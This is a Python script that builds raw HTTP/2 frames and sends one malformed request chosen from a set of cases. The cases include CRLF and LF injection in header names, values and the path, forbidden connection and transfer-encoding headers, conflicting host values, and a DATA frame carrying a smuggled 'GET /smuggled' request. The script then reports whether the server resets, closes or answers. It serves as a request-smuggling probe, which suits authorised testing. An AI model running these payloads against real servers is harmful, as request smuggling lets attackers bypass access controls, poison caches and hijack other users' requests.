"""Sends one HTTP/2 request that no library would send, by prior knowledge, and prints what it got:
"reset", "goaway", "closed", or the status. Header fields are literals without indexing or Huffman
coding (RFC 7541, 6.2.2), so that they can hold any byte."""
import socket
import struct
import sys


def literal(name, value):
    def text(it):
        assert len(it) < 127
        return bytes([len(it)]) + it
    return b"\0" + text(name) + text(value)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def fields(case):
    common = [(b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"shop"), (b":path", b"/forged")]
    further = {
        "crlf-value": [(b"x", b"y\r\nGET /smuggled HTTP/1.1")],
        "lf-value": [(b"x", b"y\ntransfer-encoding: chunked")],
        "crlf-name": [(b"x: y\r\nz", b"y")],
        "connection": [(b"connection", b"x-removed")],
        "te": [(b"te", b"gzip")],
        "chunked": [(b"transfer-encoding", b"chunked")],
        "length": [(b"content-length", b"3")],
        "two-authorities": [(b"host", b"shop"), (b"host", b"admin")],
        "host-differs": [(b"host", b"admin")],
    }
    if case == "crlf-path":
        common[3] = (b":path", b"/ HTTP/1.1\r\nx: y")
    if case == "space-path":
        common[3] = (b":path", b"/a b")
    if case == "no-path":
        del common[3]
    return common + further.get(case, [])


def status(block):
    # A server's first field is its status: indexed, or a literal with the static table's name.
    indexed = {0x88: "200", 0x89: "204", 0x8A: "206", 0x8B: "304", 0x8C: "400", 0x8D: "404", 0x8E: "500"}
    return indexed.get(block[0], block[:16].hex())


def main():
    address, port, case = sys.argv[1:]
    stream = socket.create_connection((address, int(port)), timeout=10)
    block = b"".join(literal(name, value) for name, value in fields(case))
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 4, 1, block)
                   + frame(0, 1, 1, b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: shop\r\n\r\n"))
    received = b""
    while True:
        try:
            more = stream.recv(65536)
        except ConnectionResetError:
            more = b""
        if not more:
            return print("closed")
        received += more
        while len(received) >= 9 and len(received) >= 9 + int.from_bytes(received[:3], "big"):
            length = int.from_bytes(received[:3], "big")
            kind, payload = received[3], received[9:9 + length]
            received = received[9 + length:]
            if kind == 1:
                return print(status(payload))
            if kind == 3:
                return print("reset")
            if kind == 7:
                return print("goaway")


main()
